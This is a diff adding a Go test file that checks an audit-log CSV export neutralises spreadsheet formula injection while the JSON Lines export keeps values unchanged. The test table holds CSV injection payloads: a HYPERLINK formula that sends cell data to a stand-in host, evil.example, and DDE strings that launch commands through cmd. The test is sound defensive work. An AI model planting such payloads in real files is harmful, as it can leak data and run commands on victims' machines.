@@ -1,0 +1,84 @@
+package models_test
+
+import (
+	"bytes"
+	"encoding/csv"
+	"encoding/json"
+	"strings"
+	"testing"
+	"time"
+
+	"gatehouse/models"
+)
+
+// formulaCells are stored values and their CSV cells: each character a
+// spreadsheet starts a formula with gets a leading "'", and so does "'"
+// itself, so that one leading "'" can always be taken off again.
+var formulaCells = []struct{ stored, cell string }{
+	{`=HYPERLINK("https://evil.example/?"&A1,"open")`, `'=HYPERLINK("https://evil.example/?"&A1,"open")`},
+	{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
+	{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
+	{"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
+	{"\t=1+1", "'\t=1+1"},
+	{"\r=1+1", "'\r=1+1"},
+	{"'quoted", "''quoted"},
+	{"plain = text", "plain = text"},
+	{"", ""},
+}
+
+// TestCSVExportNeutralisesFormulas puts each dangerous value in every text
+// field of an event: every one of those cells is neutralised in the CSV
+// export, while the JSON Lines export keeps the stored value exactly.
+func TestCSVExportNeutralisesFormulas(t *testing.T) {
+	var evs []models.AuditEvent
+	for i, fc := range formulaCells {
+		v := fc.stored
+		evs = append(evs, models.AuditEvent{
+			Seq: int64(i + 1), At: time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC), Actor: v, ActorTier: v, Action: models.Action(v),
+			Workspace: v, Table: v, RecordIDs: v, Target: v, Reason: v, Detail: v, IP: v, UserAgent: v, RequestID: v,
+			PrevHash: v, Hash: v,
+		})
+	}
+	textCols := []int{2, 3, 4, 5, 6, 7, 10, 11, 12, 13, 14, 15, 16, 17}
+	seq := func(yield func(models.AuditEvent, error) bool) {
+		for _, ev := range evs {
+			if !yield(ev, nil) {
+				return
+			}
+		}
+	}
+
+	var b bytes.Buffer
+	if _, err := models.WriteAuditExport(&b, "csv", seq); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(&b).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(rows) != len(formulaCells)+1 {
+		t.Fatalf("CSV has %d rows, want a header and %d", len(rows), len(formulaCells))
+	}
+	for i, fc := range formulaCells {
+		for _, col := range textCols {
+			if got := rows[i+1][col]; got != fc.cell {
+				t.Errorf("CSV cell %s of %q = %q, want %q", models.AuditCSVHeader[col], fc.stored, got, fc.cell)
+			}
+		}
+	}
+
+	b.Reset()
+	if _, err := models.WriteAuditExport(&b, "jsonl", seq); err != nil {
+		t.Fatal(err)
+	}
+	lines := strings.Split(strings.TrimSuffix(b.String(), "\n"), "\n")
+	for i, line := range lines {
+		var r models.AuditRecord
+		if err := json.Unmarshal([]byte(line), &r); err != nil {
+			t.Fatalf("line %q: %v", line, err)
+		}
+		if got := r.Event(); got != evs[i] {
+			t.Errorf("JSON Lines export = %+v, want %+v exactly", got, evs[i])
+		}
+	}
+}
